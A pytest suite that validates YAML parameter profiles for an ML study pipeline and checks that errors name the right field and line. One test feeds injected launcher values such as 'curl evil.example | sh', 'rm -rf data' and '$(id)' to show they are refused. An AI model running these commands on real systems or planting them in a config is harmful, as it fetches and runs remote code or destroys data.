from pathlib import Path

import pytest
import yaml

from doit_study.core.files import DataError
from doit_study.params.annotate import AnnotateParams
from doit_study.params.base import line_of, read_group
from doit_study.params.data import DataParams
from doit_study.params.expand import ExpandParams, subset_names
from doit_study.params.foundation import FoundationParams
from doit_study.params.mixes import MixesParams
from doit_study.params.study import load_params
from doit_study.params.train import TrainParams
from tests.helpers import REPO

PROFILES = [REPO / "params.yaml", *sorted((REPO / "profiles").glob("*.yaml"))]


@pytest.mark.parametrize("path", PROFILES, ids=lambda p: p.name)
def test_every_profile_validates(path):
    params = load_params(path)
    assert params.annotate.targets
    assert set(params.expand.pool) <= set(params.annotate.targets)


def test_profiles_are_the_expected_ones():
    assert {p.name for p in PROFILES} == {
        "params.yaml",
        "smoke.yaml",
        "smoke-release.yaml",
        "paper.yaml",
        "flan.yaml",
        "smoke-flan.yaml",
        "limit.yaml",
        "smoke-limit.yaml",
    }
    paper = load_params(REPO / "profiles/paper.yaml")
    assert paper.data.source == "doit" and len(paper.data.doit.revision) == 40
    assert paper.expand.n_per_ability == [1, 4, 16, 64, 256, 1000]
    for name, design in (
        ("flan", "flan"),
        ("smoke-flan", "flan"),
        ("limit", "limit"),
        ("smoke-limit", "limit"),
    ):
        assert load_params(REPO / f"profiles/{name}.yaml").analysis.design == design


def test_unknown_key_names_file_line_and_field(tmp_path: Path):
    text = (
        (REPO / "profiles/smoke.yaml")
        .read_text(encoding="utf-8")
        .replace("  valid_size: 10", "  valid_sise: 10")
    )
    bad = tmp_path / "params.yaml"
    bad.write_text(text, encoding="utf-8")
    with pytest.raises(DataError) as error:
        read_group(bad, AnnotateParams)
    assert error.value.field == "annotate.valid_sise"
    assert error.value.line == text.splitlines().index("  valid_sise: 10") + 1
    assert "Extra inputs are not permitted" in str(error.value)


def test_unknown_ability_in_params_is_rejected(tmp_path: Path):
    text = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8").replace("ethics: 60}", "ethic: 60}")
    bad = tmp_path / "params.yaml"
    bad.write_text(text, encoding="utf-8")
    with pytest.raises(DataError, match="unknown ability 'ethic'"):
        load_params(bad)


def test_min_epoch_beyond_training_is_rejected(tmp_path: Path):
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    text = smoke.replace("  min_epoch: 1", "  min_epoch: 3")
    bad = tmp_path / "params.yaml"
    bad.write_text(text, encoding="utf-8")
    with pytest.raises(DataError, match=r"min_epoch: larger than train\.optim\.epochs"):
        load_params(bad)


def _line(text: str, start: str) -> int:
    return next(k for k, row in enumerate(text.splitlines(), 1) if row.startswith(start))


def test_a_mix_baseline_without_its_setting_is_rejected(tmp_path: Path):
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    bad = tmp_path / "params.yaml"
    text = smoke.replace("  baseline: curated-n4", "  baseline: curated-n16")
    bad.write_text(text, encoding="utf-8")
    with pytest.raises(
        DataError,
        match=r"mixes\.settings\.reconstruct: no setting in train\.settings trains the Baseline curated-n16"
        r" on s with seed 0",
    ) as error:
        load_params(bad)
    assert error.value.field == "mixes.settings.reconstruct"
    assert error.value.line == _line(text, "    reconstruct: {subset: reconstruct")
    text = smoke.replace(
        "reconstruct: {subset: reconstruct, foundation: s,",
        "reconstruct: {subset: reconstruct, foundation: xl,",
    )
    bad.write_text(text, encoding="utf-8")
    with pytest.raises(
        DataError, match=r"mixes\.settings\.reconstruct\.foundation: 'xl' is not one of foundation\.models"
    ) as error:
        load_params(bad)
    assert error.value.field == "mixes.settings.reconstruct.foundation"
    for subset in ("maximal", "maximum-d0", "maximum-dx"):  # derive_mixes writes none of these
        text = smoke.replace("maximum: {subset: maximum,", f"maximum: {{subset: {subset},")
        bad.write_text(text, encoding="utf-8")
        with pytest.raises(DataError, match=f"reconstruct or maximum .*, not '{subset}'") as error:
            read_group(bad, MixesParams)
        assert error.value.field == "mixes.settings.maximum.subset"
        assert error.value.line == _line(text, "    maximum: {subset:")


def test_a_mix_of_another_data_seed_needs_that_seed_and_its_baseline_replicate(tmp_path: Path):
    """A mix run on data seed k is compared with the Baseline drawn under data seed k, trained on
    the same foundation with the same seed: without that replicate the check refuses it."""
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    mix = "    maximum-d2: {subset: maximum-d2, foundation: s, seed: 0}\n"
    text = smoke.replace("  baseline: curated-n4", mix + "  baseline: curated-n4")
    bad = tmp_path / "params.yaml"
    bad.write_text(text, encoding="utf-8")
    read_group(bad, MixesParams)  # the group alone is valid: the check across groups refuses it
    with pytest.raises(DataError, match=r"mixes\.settings\.maximum-d2\.subset: data seed 2 is not in"):
        load_params(bad)
    text = text.replace("  data_seeds: [0, 1]", "  data_seeds: [0, 1, 2]")
    bad.write_text(text, encoding="utf-8")
    with pytest.raises(
        DataError,
        match=r"mixes\.settings\.maximum-d2: no setting in train\.settings trains the Baseline "
        r"curated-n4-d2 on s with seed 0",
    ) as error:
        load_params(bad)
    assert error.value.field == "mixes.settings.maximum-d2"
    assert error.value.line == _line(text, mix.rstrip())
    replicates = {  # each differs from the replicate the mix needs in one of foundation, seed, data seed
        "m-curated-n4-d2: {foundation: m, subset: curated-n4-d2, seed: 0}",
        "s-curated-n4-d2-seed1: {foundation: s, subset: curated-n4-d2, seed: 1}",
        "s-curated-n16-d2: {foundation: s, subset: curated-n16-d2, seed: 0}",
    }
    for setting in replicates:
        bad.write_text(text + f"    {setting}\n", encoding="utf-8")
        with pytest.raises(DataError, match="trains the Baseline curated-n4-d2 on s with seed 0"):
            load_params(bad)
    bad.write_text(text + "    s-curated-n4-d2: {foundation: s, subset: curated-n4-d2, seed: 0}\n")
    params = load_params(bad)
    assert params.mixes.settings["maximum-d2"].subset == "maximum-d2"


def test_data_seeds_start_at_zero_and_name_their_subsets(tmp_path: Path):
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    bad = tmp_path / "params.yaml"
    setting = "    s-curated-n16-d2: {foundation: s, subset: curated-n16-d2, seed: 0}\n"
    bad.write_text(smoke + setting, encoding="utf-8")
    with pytest.raises(DataError, match="expand writes no subset 'curated-n16-d2'"):
        load_params(bad)
    bad.write_text(smoke.replace("  data_seeds: [0, 1]", "  data_seeds: [0, 1, 3]"), encoding="utf-8")
    names = subset_names(read_group(bad, ExpandParams))
    assert {"curated-n16-d1", "curated-n16-d3"} <= set(names) and "curated-n16-d2" not in names
    for seeds in ("[1, 2]", "[0, 2, 2]"):
        bad.write_text(smoke.replace("  data_seeds: [0, 1]", f"  data_seeds: {seeds}"), encoding="utf-8")
        with pytest.raises(DataError, match="data_seeds") as error:
            read_group(bad, ExpandParams)
        assert error.value.field == "expand.data_seeds"


def test_lora_with_fsdp_sharding_is_rejected(tmp_path: Path):
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    lora = "  lora: {r: 4, alpha: 8, dropout: 0.0, target_modules: [q_proj, v_proj]}"
    text = smoke.replace("  lora: null", lora).replace("  sharding: none", "  sharding: fsdp")
    assert text.count(lora) == 1 and text.count("sharding: fsdp") == 1
    bad = tmp_path / "params.yaml"
    bad.write_text(text, encoding="utf-8")
    with pytest.raises(DataError, match="sharding: fsdp shards full fine-tuning; with lora set") as error:
        read_group(bad, TrainParams)
    assert error.value.path == str(bad) and error.value.field == "train.sharding"
    line = next(k for k, row in enumerate(text.splitlines(), 1) if row.startswith("  sharding: fsdp"))
    assert error.value.line == line


def test_two_settings_of_the_same_seed_and_a_baseline_without_its_seed_are_refused(tmp_path: Path):
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    bad = tmp_path / "params.yaml"
    bad.write_text(
        smoke.replace(
            "{foundation: s-r1, subset: curated-n4-d1, seed: 1}",
            "{foundation: s, subset: curated-n4, seed: 0}",
        )
    )
    with pytest.raises(DataError, match="the same foundation, subset and seed as s-curated-n4") as error:
        read_group(bad, TrainParams)
    assert error.value.field == "train.settings.s-curated-n4-r1"
    bad.write_text(
        smoke.replace(
            "reconstruct: {subset: reconstruct, foundation: s, seed: 0}",
            "reconstruct: {subset: reconstruct, foundation: s, seed: 7}",
        )
    )
    read_group(bad, MixesParams)  # the group alone is valid: the check across groups refuses it
    with pytest.raises(DataError, match=r"trains the Baseline curated-n4 on s with seed 7") as error:
        load_params(bad)
    assert error.value.field == "mixes.settings.reconstruct"


def test_a_train_setting_on_an_unknown_foundation_is_refused_naming_its_key(tmp_path: Path):
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    row = "    m-curated-n4: {foundation: xs, subset: curated-n4, seed: 0}"
    text = smoke.replace("    m-curated-n4: {foundation: m, subset: curated-n4, seed: 0}", row)
    bad = tmp_path / "params.yaml"
    bad.write_text(text, encoding="utf-8")
    read_group(bad, TrainParams)  # the group alone is valid: foundation.models is another group
    with pytest.raises(
        DataError, match=r"train\.settings\.m-curated-n4\.foundation: 'xs' is not one of foundation\.models"
    ) as error:
        load_params(bad)
    assert error.value.field == "train.settings.m-curated-n4.foundation"
    assert error.value.line == _line(text, row)


def test_foundation_models_name_a_size_and_are_distinct(tmp_path: Path):
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    bad = tmp_path / "params.yaml"
    replica = "    m-r1: {size: m, seed: 1}"
    bad.write_text(smoke.replace(replica, "    m-r1: {size: xl, seed: 1}"), encoding="utf-8")
    with pytest.raises(DataError, match=r"models\.m-r1\.size: 'xl' is not one of sizes"):
        read_group(bad, FoundationParams)
    bad.write_text(smoke.replace(replica, "    m-r1: {size: m, seed: 0}"), encoding="utf-8")
    with pytest.raises(DataError, match=r"models\.m-r1: the same model as m"):
        read_group(bad, FoundationParams)
    replicate = "    m: {size: m, seed: 0}\n    m-r2: {size: m, seed: 2}"
    bad.write_text(smoke.replace("    m: {size: m, seed: 0}", replicate), encoding="utf-8")
    assert set(read_group(bad, FoundationParams).models) == {"s", "s-r1", "m", "m-r1", "m-r2"}


def test_a_setting_on_a_subset_expand_never_writes_is_refused_by_the_check(tmp_path: Path):
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    text = smoke.replace(
        "s-only-math-n16: {foundation: s, subset: only-math-n16, seed: 0}",
        "s-only-math-n16: {foundation: s, subset: only-math-n64, seed: 0}",
    )
    bad = tmp_path / "params.yaml"
    bad.write_text(text, encoding="utf-8")
    with pytest.raises(DataError, match="expand writes no subset 'only-math-n64'") as error:
        load_params(bad)  # `python -m doit_study check`, before dvc repro
    assert error.value.field == "train.settings.s-only-math-n16.subset"
    assert (
        error.value.line
        == text.splitlines().index("    s-only-math-n16: {foundation: s, subset: only-math-n64, seed: 0}") + 1
    )
    assert read_group(bad, DataParams).source == "builtin"  # a stage reads only its own groups


def test_an_error_in_a_nested_key_names_its_own_line(tmp_path: Path):
    """`mixes.baseline` is the mixes group's key, not `expand.mixes.baseline`, which comes first."""
    text = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    lines = text.splitlines()
    assert (
        line_of(REPO / "profiles/smoke.yaml", "mixes.baseline")
        == lines.index(next(row for row in lines if row.startswith("  baseline: curated-n4"))) + 1
    )
    expand = line_of(REPO / "profiles/smoke.yaml", "expand.mixes.baseline")
    group = next(k for k, row in enumerate(lines, 1) if row.startswith("mixes:"))
    assert lines[expand - 1] == "    baseline:" and expand < group
    bad = tmp_path / "params.yaml"
    bad.write_text(text.replace("  floor: ", "  floor: -", 1), encoding="utf-8")
    with pytest.raises(DataError) as error:
        read_group(bad, MixesParams)
    assert error.value.field == "mixes.floor"
    assert bad.read_text().splitlines()[error.value.line - 1].startswith("  floor: -")


def test_no_params_model_has_a_default():
    """Every key DVC tracks comes from the params file: a missing one is an error naming it."""
    import importlib

    from pydantic import BaseModel

    modules = [
        importlib.import_module(f"doit_study.params.{p.stem}")
        for p in (REPO / "src/doit_study/params").glob("*.py")
    ]
    models = {
        m
        for module in modules
        for m in vars(module).values()
        if isinstance(m, type) and issubclass(m, BaseModel)
    }
    defaults = [f"{m.__name__}.{n}" for m in models for n, f in m.model_fields.items() if not f.is_required()]
    assert defaults == []


@pytest.mark.parametrize(
    "launcher",
    [
        "python -m doit_study.pipeline.warm; curl evil.example | sh",
        "python && rm -rf data",
        "python $(id)",
        "python `id`",
        "python > /tmp/out",
        '"python\\nid"',
        "python 'unclosed",
    ],
)
def test_a_launcher_with_shell_syntax_is_refused_naming_the_field(tmp_path: Path, launcher: str):
    """DVC runs the launcher through a shell: only a program and its arguments get that far."""
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    row = next(row for row in smoke.splitlines() if row.startswith("  launcher: "))
    bad = tmp_path / "params.yaml"
    bad.write_text(smoke.replace(row, f"  launcher: {launcher}"), encoding="utf-8")
    with pytest.raises(DataError) as error:
        read_group(bad, TrainParams)
    assert error.value.field == "train.launcher" and error.value.path == str(bad)
    assert "shell metacharacters" in error.value.message or "quotation" in error.value.message
    assert bad.read_text(encoding="utf-8").splitlines()[error.value.line - 1].startswith("  launcher: ")


def test_a_launcher_of_plain_arguments_is_accepted(tmp_path: Path):
    smoke = (REPO / "profiles/smoke.yaml").read_text(encoding="utf-8")
    row = next(row for row in smoke.splitlines() if row.startswith("  launcher: "))
    launcher = "accelerate launch --config_file 'my config.yaml' --num_processes=8 --mixed_precision bf16"
    good = tmp_path / "params.yaml"
    good.write_text(smoke.replace(row, f"  launcher: {launcher}"), encoding="utf-8")
    assert read_group(good, TrainParams).launcher == launcher


@pytest.mark.parametrize("profile", sorted(p.name for p in (REPO / "profiles").glob("*.yaml")))
def test_every_local_pretrained_model_lies_under_a_dependency_of_the_foundation_stage(profile):
    """Replacing a real model's files must rerun its conversion: its folder is inside a DVC dep."""
    deps = yaml.safe_load((REPO / "dvc.yaml").read_text(encoding="utf-8"))["stages"]["foundation"]["do"][
        "deps"
    ]
    sizes = yaml.safe_load((REPO / "profiles" / profile).read_text(encoding="utf-8"))["foundation"]["sizes"]
    for name, spec in sizes.items():
        source = spec.get("path") or spec.get("gguf")
        if source and spec["local_files_only"] and ":" not in source:  # a package's file: its version pins it
            assert any(Path(source).is_relative_to(dep) for dep in deps), (
                f"{profile}: sizes.{name} at {source}"
            )
